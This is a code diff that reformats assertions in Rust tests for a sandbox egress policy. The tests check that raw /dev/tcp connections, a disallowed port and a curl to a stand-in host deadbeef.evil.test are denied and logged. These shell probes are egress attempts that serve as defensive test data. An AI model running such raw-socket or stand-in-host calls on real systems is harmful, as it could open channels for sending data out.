@@ -14,7 +14,10 @@ fn a01_a_raw_socket_to_an_address_gets_nowhere() {
     let script = format!("exec 3<>/dev/tcp/{NOBODY}/443; echo hello >&3; timeout 10 cat <&3; echo ended $?");
     assert_eq!(shared.guest(&script).stdout, "ended 0\n", "the connection is closed, and not left open");
     let event = shared.last_event(&format!("{NOBODY}:443"));
-    assert_eq!((event["decision"].as_str(), event["reason"].as_str()), (Some("deny"), Some("no_name_binding")));
+    assert_eq!(
+        (event["decision"].as_str(), event["reason"].as_str()),
+        (Some("deny"), Some("no_name_binding"))
+    );
 }
 
 #[test]
@@ -35,7 +38,11 @@ fn a04_an_allowed_host_is_allowed_on_its_port_only() {
         let script = format!("exec 3<>/dev/tcp/api.test/{port}; echo hello >&3; timeout 10 cat <&3");
         assert_eq!(shared.guest(&script).stdout, "", "port {port}");
         let event = shared.last_event(&format!("api.test:{port}"));
-        assert_eq!((event["decision"].as_str(), event["reason"].as_str()), (Some("deny"), Some("port")), "{event:#}");
+        assert_eq!(
+            (event["decision"].as_str(), event["reason"].as_str()),
+            (Some("deny"), Some("port")),
+            "{event:#}"
+        );
     }
     shared.nothing_leaked();
     assert!(shared.curl("https://api.test/").starts_with("200"));
@@ -153,7 +160,10 @@ fn b01_names_carry_nothing_out() {
         assert!(line.starts_with("198.18.") || line.starts_with("198.19."), "{line}");
     }
     let denied = shared.curl("https://deadbeef.evil.test/");
-    assert!(denied.starts_with("403 Blocked by sandbox policy: no rule allows deadbeef.evil.test:443"), "{denied}");
+    assert!(
+        denied.starts_with("403 Blocked by sandbox policy: no rule allows deadbeef.evil.test:443"),
+        "{denied}"
+    );
     shared.nothing_leaked();
 }
 
